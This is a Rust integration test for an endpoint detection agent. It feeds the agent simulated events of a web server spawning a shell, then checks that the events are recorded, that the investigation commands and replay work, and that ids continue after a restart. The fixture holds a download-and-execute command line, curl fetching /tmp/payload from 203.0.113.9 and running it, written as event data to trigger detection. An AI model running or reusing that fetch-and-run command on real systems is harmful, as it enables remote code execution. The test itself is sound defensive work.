//! The agent's always-on record, end to end: every event stored, the
//! investigation commands answering on what the agent recorded, export feeding
//! replay, and ids continuing across a restart.

mod common;
use common::agent::*;
use std::process::Command;

fn proc_line(pid: u32, entity: &str, exe: &str, args: &[&str], ppid: u32, parent_entity: &str, parent_exe: &str) -> String {
    serde_json::json!({
        "event": {"category": ["process"], "type": ["start"]},
        "process": {"pid": pid, "entity_id": entity, "executable": exe, "args": args,
                    "parent": {"pid": ppid, "entity_id": parent_entity, "executable": parent_exe}},
    })
    .to_string()
        + "\n"
}

/// nginx -> sh -> (curl writes /tmp/payload and connects out; /tmp/payload runs),
/// plus an unrelated `ls` under another shell.
fn attack() -> String {
    let mut s = String::new();
    s += &proc_line(100, "00000000000000a1", "/usr/sbin/nginx", &["nginx"], 1, "0000000000000001", "/usr/lib/systemd/systemd");
    s += &proc_line(
        200,
        "00000000000000b2",
        "/usr/bin/dash",
        &["sh", "-c", "curl -so /tmp/payload http://203.0.113.9/p; /tmp/payload"],
        100,
        "00000000000000a1",
        "/usr/sbin/nginx",
    );
    s += &proc_line(
        300,
        "00000000000000c3",
        "/usr/bin/curl",
        &["curl", "-so", "/tmp/payload", "http://203.0.113.9/p"],
        200,
        "00000000000000b2",
        "/usr/bin/dash",
    );
    s += &(serde_json::json!({"event": {"category": ["file"], "action": "create"}, "file": {"path": "/tmp/payload"}, "process": {"pid": 300, "entity_id": "00000000000000c3", "executable": "/usr/bin/curl"}}).to_string() + "\n");
    s += &(serde_json::json!({"event": {"category": ["network"], "action": "connection_attempted"}, "network": {"transport": "tcp"}, "source": {"ip": "10.0.0.5", "port": 40000}, "destination": {"ip": "203.0.113.9", "port": 80}, "process": {"pid": 300, "entity_id": "00000000000000c3", "executable": "/usr/bin/curl"}}).to_string() + "\n");
    s += &proc_line(400, "00000000000000d4", "/tmp/payload", &["/tmp/payload"], 200, "00000000000000b2", "/usr/bin/dash");
    s += &proc_line(900, "00000000000000f9", "/usr/bin/ls", &["ls", "-la"], 800, "00000000000000f8", "/usr/bin/bash");
    s
}

fn edr(args: &[&str]) -> String {
    let out = Command::new(env!("CARGO_BIN_EXE_edr")).args(args).output().unwrap();
    assert!(out.status.success(), "edr {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

fn json_rows(out: &str) -> Vec<serde_json::Value> {
    out.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
}

#[test]
fn record_investigate_export_and_restart() {
    let dir = tempfile::tempdir().unwrap();
    let config = "[collect]\nsource = \"stdin\"\n[output]\nstdout = false\n";
    let mut agent = Agent::start(dir.path(), config);
    agent.send(&attack());
    agent.wait_for("the two alerts", std::time::Duration::from_secs(30), |a| a.alerts().len() >= 2);
    agent.stop();
    let d = dir.path().join("data");
    let d = d.to_str().unwrap();

    // Every event is in the record.
    let counts = json_rows(&edr(&[
        "query",
        "--data-dir",
        d,
        "--json",
        "SELECT (SELECT count(*) FROM process) AS p, (SELECT count(*) FROM file) AS f, (SELECT count(*) FROM network) AS n",
    ]));
    assert_eq!((counts[0]["p"].as_u64(), counts[0]["f"].as_u64(), counts[0]["n"].as_u64()), (Some(5), Some(1), Some(1)));

    // The storyline of the lineage alert (nginx spawned sh): its ancestors,
    // descendants and their activity, and nothing unrelated.
    let alerts = json_rows(&edr(&["query", "--data-dir", d, "--json", "SELECT id, rule_id FROM alert ORDER BY id"]));
    let lineage = alerts.iter().find(|a| a["rule_id"] == "edr.lineage.service-spawned-shell").expect("lineage alert recorded");
    let story: serde_json::Value = serde_json::from_str(&edr(&["storyline", &lineage["id"].to_string(), "--data-dir", d, "--json"])).unwrap();
    let story_text = story.to_string();
    for pid in ["\"pid\":100", "\"pid\":300", "\"pid\":400", "/tmp/payload", "203.0.113.9"] {
        assert!(story_text.contains(pid), "the storyline lacks {pid}: {story_text}");
    }
    assert!(!story_text.contains("\"pid\":900"), "an unrelated process is in the storyline");
    let human = edr(&["storyline", &lineage["id"].to_string(), "--data-dir", d]);
    assert!(human.contains("Descendant") && human.contains("/usr/bin/curl"), "{human}");

    // Search, timeline.
    let found = edr(&["search", "HTTP://203.0.113.9", "--data-dir", d]);
    assert_eq!(found.lines().count(), 2, "{found}");
    let tl = edr(&["timeline", "--path", "/tmp/payload", "--data-dir", d]);
    assert!(tl.contains("create /tmp/payload"), "{tl}");

    // Export is what replay reads: the same detections fire again.
    let export = dir.path().join("export.jsonl");
    let out = Command::new(env!("CARGO_BIN_EXE_edr")).args(["export", "--data-dir", d, "-o", export.to_str().unwrap()]).output().unwrap();
    assert!(out.status.success());
    let replayed = Command::new(env!("CARGO_BIN_EXE_edr")).args(["replay", export.to_str().unwrap()]).env("EDR_LOG", "warn").output().unwrap();
    let mut rules: Vec<String> = json_rows(&String::from_utf8_lossy(&replayed.stdout)).iter().map(|a| a["rule"]["id"].as_str().unwrap().to_string()).collect();
    rules.sort();
    let mut recorded: Vec<String> = alerts.iter().map(|a| a["rule_id"].as_str().unwrap().to_string()).collect();
    recorded.sort();
    assert_eq!(rules, recorded, "retro-hunting over the export finds what the agent found");

    // A restart: ids continue, nothing is numbered twice.
    let mut agent = agent_restart(dir.path(), config);
    agent.send(&proc_line(1000, "00000000000003e8", "/tmp/again", &["/tmp/again"], 1, "0000000000000001", "/usr/lib/systemd/systemd"));
    agent.wait_for("the alert after the restart", std::time::Duration::from_secs(30), |a| a.alerts().len() >= 3);
    agent.stop();
    let ids = json_rows(&edr(&["query", "--data-dir", d, "--json", "SELECT count(*) AS n, count(DISTINCT id) AS distinct_ids, max(id) AS max FROM process"]));
    assert_eq!(ids[0]["n"], ids[0]["distinct_ids"]);
    assert_eq!(ids[0]["n"].as_u64(), Some(6));
    let alert_ids = json_rows(&edr(&["query", "--data-dir", d, "--json", "SELECT count(*) AS n, count(DISTINCT id) AS distinct_ids FROM alert"]));
    assert_eq!(alert_ids[0]["n"], alert_ids[0]["distinct_ids"]);
}

fn agent_restart(dir: &std::path::Path, config: &str) -> Agent {
    Agent::start(dir, config)
}
